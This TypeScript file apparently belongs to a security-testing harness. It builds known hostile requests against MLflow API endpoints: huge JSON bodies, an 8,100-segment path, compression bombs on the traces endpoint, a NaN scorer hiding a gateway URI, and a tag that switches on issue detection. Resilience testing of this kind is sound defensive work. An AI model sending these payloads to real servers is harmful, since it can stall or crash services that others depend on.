import { type HostileCase, render } from '../case.ts';
import { BOMBS } from '../generate/values.ts';
import type { Random } from '../random.ts';

/** Requests that once stopped, stalled or starved a gateway, in their original size. */
interface Known {
  readonly name: string;
  /** The method, the path, and the body with its headers. */
  make(
    random: Random,
    own: ReadonlyMap<string, string>,
  ): {
    readonly method: string;
    readonly path: string;
    readonly headers?: Readonly<Record<string, string>>;
    readonly body?: Buffer;
  };
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const hex = (random: Random): string =>
  Array.from({ length: 4 }, () => random.below(0x100000000).toString(16).padStart(8, '0')).join('');
const once = (make: () => string): (() => Buffer) => {
  let made: Buffer | undefined;
  return () => {
    made ??= Buffer.from(make());
    return made;
  };
};
const emptyObjects = once(() => `{"run_id":"x","metrics":[${'{},'.repeat(5_000_000)}{}]}`);
const shortTexts = once(() => `{"experiment_ids":[${'"1",'.repeat(3_700_000)}"1"]}`);
const longOrder = once(() => `{"experiment_ids":["0"],"order_by":["${'metrics.a ASC, '.repeat(70_000)}"]}`);
const manyOrders = once(
  () => `{"experiment_ids":["0"],"order_by":[${'"metrics.a",'.repeat(80_000)}"metrics.a"]}`,
);
const longFilter = once(
  () => `{"experiment_ids":["0"],"filter":"${"params.a = 'b' AND ".repeat(50_000)}params.a = 'b'"}`,
);
const manyModels = (random: Random, run: string): string =>
  JSON.stringify({
    run_id: run,
    metrics: Array.from({ length: 3_000 }, (_, i) => ({
      key: 'm',
      value: i,
      timestamp: 1,
      step: i,
      model_id: `m-${hex(random)}`,
    })),
  });

/** The requests of the published findings, which the generator would rarely produce. */
const KNOWN: readonly Known[] = [
  {
    name: 'two names of a run, one of them no id',
    make: () => ({ method: 'GET', path: `/api/2.0/mlflow/runs/get?run_uuid=${'0'.repeat(32)}&run_id=%21` }),
  },
  {
    name: 'a path of 8,100 segments',
    make: () => ({ method: 'GET', path: `/api/2.0/mlflow-artifacts/artifacts${'/a'.repeat(8_100)}` }),
  },
  ...BOMBS.map(({ name, body, encoding }) => ({
    name: `an OTLP bomb of ${name}`,
    make: (_: Random, own: ReadonlyMap<string, string>) => ({
      method: 'POST',
      path: '/v1/traces',
      headers: {
        'Content-Type': 'application/x-protobuf',
        'Content-Encoding': encoding,
        'x-mlflow-experiment-id': own.get('experiment') ?? '0',
      },
      body: body(),
    }),
  })),
  {
    name: 'a list of 5,000,000 empty objects',
    make: () => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/log-batch',
      headers: JSON_TYPE,
      body: emptyObjects(),
    }),
  },
  {
    name: 'a list of 3,700,000 short texts',
    make: () => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/search',
      headers: JSON_TYPE,
      body: shortTexts(),
    }),
  },
  {
    name: '3,000 model ids in one batch',
    make: (random, own) => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/log-batch',
      headers: JSON_TYPE,
      body: Buffer.from(manyModels(random, own.get('run') ?? hex(random))),
    }),
  },
  {
    name: 'an order_by of 1 MB',
    make: () => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/search',
      headers: JSON_TYPE,
      body: longOrder(),
    }),
  },
  {
    name: '80,000 items of order_by',
    make: () => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/search',
      headers: JSON_TYPE,
      body: manyOrders(),
    }),
  },
  {
    name: 'a filter of 1 MB',
    make: () => ({
      method: 'POST',
      path: '/api/2.0/mlflow/runs/search',
      headers: JSON_TYPE,
      body: longFilter(),
    }),
  },
  {
    name: 'a scorer that only Python parses',
    make: (_, own) => ({
      method: 'POST',
      path: '/api/3.0/mlflow/scorers/register',
      headers: JSON_TYPE,
      body: Buffer.from(
        JSON.stringify({
          experiment_id: own.get('experiment') ?? '0',
          name: 'judge',
          serialized_scorer:
            '{"x":NaN,"name":"judge","instructions_judge_pydantic_data":{"model":"g\\u0061teway:/gpt"}}',
        }),
      ),
    }),
  },
  {
    name: 'a tag that orders issue detection',
    make: (_, own) => ({
      method: 'POST',
      path: '/api/2.0/mlflow/experiments/set-experiment-tag',
      headers: JSON_TYPE,
      body: Buffer.from(
        JSON.stringify({
          experiment_id: own.get('experiment') ?? '0',
          key: 'mlflow.issueDetection.schedule',
          value: '{"enabled":true}',
        }),
      ),
    }),
  },
];

/** One of the known findings, as a caller of the attacking team. */
export function knownCase(
  random: Random,
  own: ReadonlyMap<string, string>,
  authorization: string | undefined,
): HostileCase {
  const known = random.one(KNOWN);
  const { method, path, headers = {}, body } = known.make(random, own);
  const sent = authorization === undefined ? headers : { ...headers, Authorization: authorization };
  return {
    name: `known ${known.name}`,
    pieces: [render(method, path, sent, body)],
    method,
    framed: true,
    ending: 'answer',
  };
}
